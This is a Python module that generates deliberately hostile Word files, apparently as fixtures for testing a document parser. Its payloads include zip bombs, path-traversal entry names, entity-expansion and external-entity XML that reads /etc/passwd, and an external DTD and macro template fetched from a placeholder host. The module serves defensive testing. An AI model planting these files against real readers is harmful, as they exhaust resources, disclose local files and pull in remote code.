"""Word files made to harm or to confuse whoever opens them; each is a few kilobytes, made when it is asked for."""

import io
import random
import struct
import zipfile
from collections.abc import Callable

from ole_file import ole
from word_file import (
    NAMESPACES,
    OFFICE,
    SCHEMAS,
    Outside,
    Part,
    char,
    document,
    graphic,
    inline,
    instr,
    mark,
    p,
    package,
    r,
    run,
    section,
    story,
    tbl,
    tc,
    text_box,
    tr,
    word,
    xml,
)

Made = dict[str, Callable[[], bytes]]
TYPES = f'<Types xmlns="{SCHEMAS}package/2006/content-types"/>'.encode()
W = f'xmlns:w="{NAMESPACES["w"]}"'
PLAN = p("A plan")


def whole(main: str | bytes, *more: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Give a package whose main part is written as it stands."""
    data = main if isinstance(main, bytes) else main.encode()
    return package([("[Content_Types].xml", TYPES), ("word/document.xml", data), *more], method)


def body(content: str, head: str = "") -> str:
    return f"{head}<w:document {W}><w:body>{content}</w:body></w:document>"


def packed(content: str, *parts: Part | Outside) -> bytes:
    """Give a package whose parts are deflated."""
    with zipfile.ZipFile(io.BytesIO(word(content, *parts))) as made:
        return package([(name, made.read(name)) for name in made.namelist()], zipfile.ZIP_DEFLATED)


def relations(*targets: str, kind: str = "header") -> bytes:
    each = (
        f'<Relationship Id="r{n}" Type="{OFFICE}relationships/{kind}" Target="{target}"/>'
        for n, target in enumerate(targets)
    )
    return f'<Relationships xmlns="{SCHEMAS}package/2006/relationships">{"".join(each)}</Relationships>'.encode()


def zips() -> Made:
    bomb = b" " * (60 * 1024 * 1024)
    return {
        "bomb-in-main-part": lambda: whole(body(PLAN).encode() + bomb),
        "bomb-beside-main-part": lambda: whole(body(PLAN), ("word/header1.xml", bomb)),
        "bomb-as-picture": lambda: whole(body(PLAN), ("word/media/image1.png", bomb)),
        "bomb-in-embedded-file": lambda: whole(body(PLAN), ("word/embeddings/a.docx", whole(bomb))),
        "bomb-in-chunk": lambda: whole(body(PLAN), ("word/chunk.html", bomb)),
        "too-many-entries": lambda: whole(body(PLAN), *((f"x/{n}.xml", b"") for n in range(6000))),
        "entry-encrypted": lambda: flagged(whole(body(PLAN), method=zipfile.ZIP_STORED), 0x1),
        "entry-of-unknown-method": lambda: method_changed(whole(body(PLAN), method=zipfile.ZIP_STORED)),
        "entry-of-false-size": lambda: size_changed(whole(body(PLAN))),
        "cut-in-half": lambda: (data := whole(body(PLAN)))[: len(data) // 2],
        "cut-at-the-end": lambda: whole(body(PLAN))[:-10],
        "names-that-climb": lambda: whole(body(PLAN), ("../../../etc/passwd", b"x"), ("/etc/passwd.xml", b"<a/>")),
        "names-without-sense": lambda: whole(body(PLAN), ("word/\u0001\u202e//..//.xml", b"<a/>"), ("", b"x")),
        "main-part-missing": lambda: package([("[Content_Types].xml", TYPES), ("word/styles.xml", b"<a/>")]),
        "main-part-empty": lambda: whole(b""),
        "main-part-binary": lambda: whole(bytes(range(256)) * 40),
        "main-part-of-another-kind": lambda: whole(story("hdr", PLAN)),
        "main-part-twice": lambda: whole(body(p("One")), ("word/document.xml", body(p("Two")).encode())),
        "main-part-in-two-cases": lambda: whole(body(p("One")), ("WORD/Document.xml", body(p("Two")).encode())),
        "back-slashes": lambda: package([("[Content_Types].xml", TYPES), ("word\\document.xml", body(PLAN).encode())]),
    }


def flagged(data: bytes, bit: int) -> bytes:
    """Set a flag in every central entry of a package."""
    out = bytearray(data)
    at = out.find(b"PK\x01\x02")
    while at >= 0:
        out[at + 8] |= bit
        at = out.find(b"PK\x01\x02", at + 4)
    return bytes(out)


def method_changed(data: bytes) -> bytes:
    out = bytearray(data)
    at = out.find(b"PK\x01\x02", out.find(b"PK\x01\x02") + 4)
    struct.pack_into("<H", out, at + 10, 99)
    return bytes(out)


def size_changed(data: bytes) -> bytes:
    out = bytearray(data)
    at = out.find(b"PK\x01\x02", out.find(b"PK\x01\x02") + 4)
    struct.pack_into("<I", out, at + 24, 7)
    return bytes(out)


def markup() -> Made:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    outside = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    deep = "<w:sdt><w:sdtContent>"
    back = "</w:sdtContent></w:sdt>"
    return {
        "entities-of-entities": lambda: whole(body(p("&l9;"), f'<!DOCTYPE d [<!ENTITY l0 "ha">{laughs}]>')),
        "entity-of-a-local-file": lambda: whole(body(p("&x;"), outside)),
        "entity-in-a-header": lambda: packed(
            PLAN + section("header:default:rH"),
            Part("h.xml", f"{outside}<w:hdr {W}>{p('&x;')}</w:hdr>", "header", "rH"),
        ),
        "entity-in-utf-16": lambda: whole((outside + body(p("x"))).encode("utf-16")),
        "entity-in-properties": lambda: packed(
            PLAN, Part("/docProps/core.xml", outside + "<a>&x;</a>", "core-properties")
        ),
        "entity-in-relations": lambda: whole(
            body(PLAN), ("word/_rels/document.xml.rels", outside.encode() + relations("a"))
        ),
        "document-type-outside": lambda: whole(body(PLAN, '<!DOCTYPE d SYSTEM "http://192.0.2.1/d.dtd">')),
        "inclusion": lambda: whole(
            body(p('<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>'))
        ),
        "nested-without-end": lambda: whole(body(deep * 50_000 + PLAN + back * 50_000)),
        "nested-to-the-limit": lambda: whole(body(deep * 100 + PLAN + back * 100)),
        "letters-outside-unicode": lambda: whole(body(p("x")).encode().replace(b">x<", b">\xff\xfe\xc3\x28<")),
        "encoding-unknown": lambda: whole(body(PLAN, '<?xml version="1.0" encoding="x-none"?>')),
        "encoding-false": lambda: whole(body(p("é"), '<?xml version="1.0" encoding="UTF-16"?>')),
        "end-missing": lambda: whole(body(PLAN)[:-20]),
        "attribute-of-megabytes": lambda: packed(p(inline(graphic(""), f'id="1" name="x" descr="{"ab " * 900_000}"'))),
        "text-of-megabytes": lambda: packed(p("brighter " * 600_000)),
        "paragraphs-by-the-thousand": lambda: packed("<w:p/>" * 200_000 + PLAN),
        "strict-and-not": lambda: whole(document(PLAN).replace("2006/main", "2006/main/x")),
    }


def structures() -> Made:
    row = tr(tc("a", "<w:vMerge/>"), tc("b", "<w:vMerge/>"))
    nested = "A"
    for _ in range(40):
        nested = tbl(tr(tc(p(nested) if nested == "A" else nested + p("x"))))
    boxed = p("A")
    for _ in range(20):
        boxed = p(inline(text_box(boxed)))
    either = r("A")
    for n in range(60):
        other = f"<mc:Fallback>{r(f'w{n}')}</mc:Fallback>"
        either = f"<mc:AlternateContent><mc:Choice>{either}</mc:Choice>{other}</mc:AlternateContent>"
    label = f'<w:lvlText w:val="{"%1" * 20000}"/>'
    levels = f'<w:lvl w:ilvl="0"><w:numFmt w:val="upperLetter"/>{label}<w:start w:val="9999999"/></w:lvl>'
    named = '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'
    item = '<w:numPr><w:ilvl w:val="99999999999"/><w:numId w:val="1"/></w:numPr>'
    return {
        "merges-downwards": lambda: packed(tbl(*[row] * 3000)),
        "spans-without-end": lambda: packed(tbl(tr(tc("a", '<w:gridSpan w:val="2147483647"/>'), tc("b")))),
        "spans-below-nothing": lambda: packed(
            tbl(tr(tc("a", '<w:gridSpan w:val="-5"/>'), tc("b", '<w:gridSpan w:val="NaN"/>')))
        ),
        "row-far-to-the-right": lambda: packed(
            tbl(tr(tc("a"), properties='<w:gridBefore w:val="99999999999999999999"/>'))
        ),
        "table-without-rows": lambda: packed("<w:tbl/><w:tr/><w:tc/>" + tr(tc("a"))),
        "tables-in-tables": lambda: packed(nested),
        "boxes-in-boxes": lambda: packed(boxed),
        "choices-in-choices": lambda: packed(p(either)),
        "fields-never-ended": lambda: packed(p((char("begin") + instr(" IF ")) * 3000) + PLAN),
        "fields-ended-only": lambda: packed(p(char("end") * 500 + char("separate") * 500) + PLAN),
        "field-code-without-end": lambda: packed(p(char("begin") + instr("PAGE " + "a " * 40_000 + "!") + char("end"))),
        "changes-by-the-thousand": lambda: packed("".join(p("a", mark("del")) for _ in range(5000))),
        "insertions-by-the-thousand": lambda: packed(PLAN + "".join(p("a", mark("ins")) for _ in range(5000))),
        "bookmarks-by-the-thousand": lambda: packed(
            p("".join(f'<w:bookmarkStart w:id="{n}" w:name="Mark {n}"/>' for n in range(30_000)))
        ),
        "list-beyond-numbers": lambda: packed(
            p("A", item) * 3,
            Part(
                "numbering.xml",
                xml(
                    "w:numbering",
                    f'<w:abstractNum w:abstractNumId="0">{levels}</w:abstractNum>{named}',
                ),
                "numbering",
            ),
        ),
        "list-that-links-to-itself": lambda: packed(
            p("A", item),
            Part(
                "numbering.xml",
                xml(
                    "w:numbering",
                    '<w:abstractNum w:abstractNumId="0"><w:styleLink w:val="S"/><w:numStyleLink w:val="S"/>'
                    f"</w:abstractNum>{named}",
                ),
                "numbering",
            ),
        ),
        "styles-in-a-circle": lambda: packed(
            p("A", '<w:pStyle w:val="A"/>'),
            Part(
                "styles.xml",
                xml(
                    "w:styles",
                    '<w:style w:styleId="A"><w:basedOn w:val="B"/></w:style>'
                    '<w:style w:styleId="B"><w:basedOn w:val="A"/></w:style>',
                ),
                "styles",
            ),
        ),
        "symbol-beyond-unicode": lambda: packed(p(run('<w:sym w:font="Symbol" w:char="FFFFFFFFFF"/>') + r("A"))),
    }


def paths() -> Made:
    chart = inline(graphic('<c:chart r:id="rC"/>'))
    held = ole({"Package": packed(PLAN), "CONTENTS": b"A" * 9000})
    nested_mail = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(1500))
    return {
        "header-is-the-document": lambda: whole(
            body(PLAN + section("header:default:r0").replace("r:id", f'xmlns:r="{NAMESPACES["r"]}" r:id')),
            ("word/_rels/document.xml.rels", relations("document.xml")),
        ),
        "header-of-itself": lambda: whole(
            body(PLAN),
            ("word/h.xml", story("hdr", PLAN).encode()),
            ("word/_rels/document.xml.rels", relations("h.xml", "../word/h.xml", "./h.xml")),
            ("word/_rels/h.xml.rels", relations("h.xml", "document.xml")),
        ),
        "relations-of-relations": lambda: whole(
            body(PLAN),
            ("_rels/.rels", relations("_rels/.rels", kind="officeDocument")),
            ("_rels/_rels/.rels.rels", relations(".rels")),
        ),
        "chart-is-the-document": lambda: packed(p(chart), Part("document.xml", "<x/>", "chart", "rC")),
        "parts-missing": lambda: whole(
            body(PLAN), ("word/_rels/document.xml.rels", relations("gone.xml", "", "#", "../../../../x.xml"))
        ),
        "targets-outside": lambda: packed(
            p(inline(graphic('<pic:pic><pic:blipFill><a:blip r:link="rL"/></pic:blipFill></pic:pic>'))),
            Outside("rL", "file:///etc/passwd", "image"),
            Outside("rT", "http://192.0.2.1/x.dotm", "attachedTemplate"),
        ),
        "picture-of-false-size": lambda: packed(
            p(inline(graphic('<pic:pic><pic:blipFill><a:blip r:embed="rI"/></pic:blipFill></pic:pic>'))),
            Part(
                "media/i.png",
                b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sII", 13, b"IHDR", 2**31 - 1, 2**31 - 1),
                "image",
                "rI",
            ),
        ),
        "drawing-with-entities": lambda: packed(
            PLAN,
            Part("media/i.svg", '<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg><text>&x;</text></svg>'),
        ),
        "page-nested-without-end": lambda: packed(PLAN, Part("chunk.html", "<div>" * 30_000 + "A")),
        "message-nested-without-end": lambda: packed(PLAN, Part("chunk.mht", nested_mail)),
        "object-cut": lambda: packed(PLAN, Part("embeddings/o.bin", held[:700])),
        "object-in-a-circle": lambda: packed(PLAN, Part("embeddings/o.bin", held[:512] + bytes(len(held) - 512))),
        "object-of-false-size": lambda: packed(
            PLAN, Part("embeddings/o.bin", ole({"\x01Ole10Native": b"\xff\xff\xff\xff\2\0a\0b\0" + b"\xff" * 90}))
        ),
        "object-in-object": lambda: packed(
            PLAN, Part("embeddings/o.bin", ole({"Package": ole({"Package": ole({"Package": packed(PLAN)})})}))
        ),
        "rich-text-nested-without-end": lambda: packed(PLAN, Part("chunk.rtf", b"{\\rtf1 " + b"{" * 500_000 + b"A")),
        "rich-text-of-escapes": lambda: packed(PLAN, Part("chunk.rtf", b"{\\rtf1 " + b"\\'8a\\u-1?" * 90_000)),
        "rich-text-of-false-data": lambda: packed(PLAN, Part("chunk.rtf", b"{\\rtf1 \\bin9999999999 A" * 9)),
        "field-data-of-nonsense": lambda: packed(
            p(f"<w:r><w:fldChar><w:fldData>{'PD94' * 9999}=</w:fldData></w:fldChar></w:r>")
        ),
        "macros-of-nonsense": lambda: packed(PLAN, Part("vbaProject.bin", ole({"PROJECT": b'Module="' * 40_000}))),
        "links-left-by-the-thousand": lambda: packed(
            PLAN, *(Outside(f"r{n}", f"https://example.org/{n}") for n in range(20_000))
        ),
        "file-within-file-within-file": lambda: packed(
            PLAN, Part("embeddings/a.docx", packed(PLAN, Part("embeddings/b.docx", packed(PLAN))))
        ),
    }


def fuzzed(data: bytes, seed: int) -> bytes:
    """Change thirty bytes of a file, at places chosen by a seed."""
    dice = random.Random(seed)
    out = bytearray(data)
    for _ in range(30):
        out[dice.randrange(len(out))] = dice.randrange(256)
    return bytes(out)


def damaged() -> Made:
    """Change bytes of a stored package: its XML, its names, its sizes."""
    good = word(
        p(inline(text_box(p("A")))) + tbl(tr(tc("a"), tc("b"))) + section("header:default:rH"),
        Part("h.xml", story("hdr", PLAN), "header", "rH"),
        Part("/docProps/core.xml", xml("cp:coreProperties", "<dc:title>A</dc:title>"), "core-properties"),
    )
    return {f"bytes-changed-{seed}": lambda seed=seed: fuzzed(good, seed) for seed in range(8)}


def files() -> Made:
    return {**zips(), **markup(), **structures(), **paths(), **damaged()}
